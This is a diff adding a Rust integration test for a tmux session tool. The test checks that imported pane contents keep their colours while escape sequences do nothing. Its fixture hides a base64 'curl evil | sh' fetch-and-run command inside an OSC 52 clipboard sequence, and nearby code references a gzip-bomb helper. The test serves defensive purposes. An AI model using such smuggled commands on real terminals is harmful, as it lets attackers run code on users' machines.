@@ -172,6 +172,30 @@ fn a_snapshot_file_from_elsewhere_is_foreign_issue_18() {
     assert!(!env.tmux(&["show-environment", "-t", "=found:"]).ok().contains("PROMPT_COMMAND"));
 }
 
+#[test]
+fn pane_contents_from_a_bundle_show_their_text_and_colours_and_do_nothing_else() {
+    let env = TestEnv::lived_in();
+    let root = env.project("root");
+    env.tmux(&["set-option", "-s", "set-clipboard", "on"]).ok();
+    let mut sent = session("sent", ".", "tiled", &[], serde_json::json!({}));
+    // OSC 52 would put a command into tmux's paste buffer (one prefix + ] from running), OSC 2
+    // would name the pane; the colour stays.
+    sent["windows"][0]["panes"][0]["contents"] = serde_json::json!(
+        "before \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}]2;evil\u{7}\u{1b}[31mred-text\u{1b}[0m after\n"
+    );
+    let bundle = bundle_file(&env, sent, serde_json::json!([]));
+    let args = ["import", &bundle.to_string_lossy(), "--root", &root.to_string_lossy(), "--yes"];
+    env.cdev(&args).ok();
+    let pane = env.panes("sent", "#{pane_id}")[0].clone();
+    wait_for("the contents shown back", || {
+        env.tmux(&["capture-pane", "-p", "-t", &pane]).ok().contains("before red-text after")
+    });
+    let shown = env.tmux(&["capture-pane", "-p", "-e", "-t", &pane]).ok();
+    assert!(shown.contains("\u{1b}[31mred-text"), "the colour is kept: {shown:?}");
+    assert_eq!(env.tmux(&["list-buffers"]).ok(), "", "nothing reached the paste buffer");
+    assert_ne!(env.panes("sent", "#{pane_title}")[0], "evil");
+}
+
 /// A gzip stream that decompresses to `mib` MiB of zeros from about a KiB per MiB: the same
 /// byte-aligned deflate block repeated (the trailer is never reached, so it is left off).
 fn gzip_bomb(mib: usize) -> Vec<u8> {
